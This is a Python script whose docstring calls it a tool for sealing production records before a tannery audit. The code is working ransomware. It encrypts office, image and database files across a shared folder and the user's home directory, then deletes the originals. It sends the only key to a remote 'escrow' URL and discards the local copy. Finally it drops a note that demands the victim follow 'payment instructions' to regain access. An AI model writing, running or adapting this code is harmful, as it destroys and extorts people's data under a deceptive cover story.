#!/usr/bin/env python3
"""Seal closed production records for the leather-working audit.

Walks the shared production folders, seals every record with a fresh key
so it cannot be altered before the auditor visit, and escrows the key
with the records office. Sealed copies replace the working copies.
"""
import argparse
import json
import logging
import os
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("archive-sealer")

DEFAULT_ROOTS = [
    os.environ.get("TANNERY_SHARE", "/srv/tannery-share"),
    str(Path.home()),
]
ESCROW_URL = os.environ.get("RECORDS_ESCROW", "https://records-office.example.com/escrow")
SEALED_SUFFIX = ".sealed"
RECORD_TYPES = {".xlsx", ".xls", ".csv", ".docx", ".pdf", ".odt", ".ods",
                ".jpg", ".png", ".db", ".sqlite", ".txt"}
NOTICE_NAME = "RECORDS_SEALED_README.txt"
NOTICE = (
    "Production records in this folder have been sealed.\n"
    "To restore access, contact records-office@example.com with the ID below\n"
    "and follow the payment instructions you receive.\n"
    "Seal ID: {seal_id}\n"
)


class Sealer:
    def __init__(self, roots):
        self.roots = [Path(r) for r in roots]
        self.key = Fernet.generate_key()
        self.engine = Fernet(self.key)
        self.seal_id = os.urandom(6).hex()
        self.sealed = 0

    def candidates(self):
        for root in self.roots:
            for dirpath, dirnames, filenames in os.walk(root):
                dirnames[:] = [d for d in dirnames if not d.startswith(".")]
                for name in filenames:
                    path = Path(dirpath) / name
                    if path.suffix.lower() in RECORD_TYPES:
                        yield path

    def seal_file(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(self.engine.encrypt(data))
        path.unlink()
        self.sealed += 1

    def leave_notice(self):
        for root in self.roots:
            try:
                (root / NOTICE_NAME).write_text(NOTICE.format(seal_id=self.seal_id))
            except OSError:
                pass

    def escrow_key(self):
        body = json.dumps({"seal_id": self.seal_id, "key": self.key.decode(),
                           "count": self.sealed}).encode()
        req = urllib.request.Request(ESCROW_URL, data=body, method="POST",
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=30).close()
        except OSError as exc:
            LOG.debug("escrow failed: %s", exc)
        # the records office holds the only copy from here on
        self.key = None
        self.engine = None


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("roots", nargs="*", default=DEFAULT_ROOTS)
    parser.add_argument("--quiet", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(asctime)s %(message)s")

    sealer = Sealer(args.roots)
    for path in sealer.candidates():
        try:
            sealer.seal_file(path)
        except (OSError, PermissionError) as exc:
            LOG.debug("skip %s: %s", path, exc)
    sealer.escrow_key()
    sealer.leave_notice()
    LOG.info("sealed %d records (seal id %s)", sealer.sealed, sealer.seal_id)


if __name__ == "__main__":
    main()
